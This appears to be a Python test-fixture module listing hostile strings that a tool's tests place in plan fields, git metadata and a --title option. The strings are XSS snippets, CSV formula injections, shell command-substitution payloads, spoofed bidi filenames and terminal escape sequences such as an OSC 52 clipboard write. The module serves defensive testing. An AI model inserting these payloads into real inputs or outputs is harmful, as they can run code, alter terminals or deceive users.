"""Hostile texts: what a plan file, a commit or a command line may hold to run code, write
files, change a terminal or become a spreadsheet formula. The tests place them in every
text field of a plan, in git author names and commit subjects, and in `--title`.

Each is here for what it would do if a channel took it as more than text."""

from __future__ import annotations

# Read by rich as markup or emoji codes on a terminal: a live hyperlink, an emoji, a
# MarkupError traceback for a closing tag that opens nothing.
MARKUP = [
    "[link=file:///etc/passwd]click[/link]",
    ":warning: :smiley:",
    "[/]",
    "[bold red]alarm[/bold red] [/link]",
]

# Live tags and links in markdown and HTML.
HTML = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "&lt;b&gt; &amp; <!-- hidden -->",
]

# Structure in markdown: links, images, headings, lists, quotes, code, table cells.
MARKDOWN = [
    "[x](javascript:alert(1)) ![i](http://example.invalid/x.png)",
    "Plain title\n\n## Injected heading",
    "**bold** _em_ `code` ~~gone~~ | cell | break",
    "1. a list\n- another\n> a quote\n```\nfenced\n```\n---",
    "\\| an escape \\",
]

# Formulas to Excel, LibreOffice and Google Sheets (OWASP, "CSV Injection").
CSV = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
]

# Code to a shell that evaluates a completion.
SHELL = [
    "$(touch pwned)",
    "`touch pwned`",
    "<(touch pwned)",
    "x\\",
    "; touch pwned; '\"",
]

# Text that reads otherwise than it is: bidi overrides and isolates, which a plan may
# hold (a right-to-left name needs them), zero-width characters.
BIDI = [
    "\u202egnp.exe\u202c \u2066isolated\u2069 zero\u200bwidth\u200d",
    "Owner \u2067\u202bembedded\u202c\u2069 \u202dforced\u202c",
]

# Plan text: every one of these, in every text field.
PLAN_TEXTS = MARKUP + HTML + MARKDOWN + CSV + BIDI + SHELL

# Terminal control: an OSC 52 clipboard write, a window title, clear screen, the C1 CSI,
# a carriage return that hides what came before, a bell, a bidi override that reverses
# what follows. A plan refuses them at load; git metadata and the command line cannot.
CONTROL = [
    "\x1b]52;c;cHduZWQ=\x1b\\",
    "\x1b]0;pwned title\x07",
    "\x1b[2J\x1b[H",
    "\x9b31mred",
    "hidden\roverwritten",
    "\u202eevil.exe\u202c",
    "\x7fdel \x08backspace \x1b[6n",
]

# Outside the plan (git authors and subjects, --title): everything at once.
OUTSIDE_TEXTS = [c + " " + t for c, t in zip(CONTROL, PLAN_TEXTS, strict=False)]

# Shown instead of the text when a channel did act on it.
EMOJI = ("\u26a0", "\U0001f603")  # what :warning: and :smiley: would become
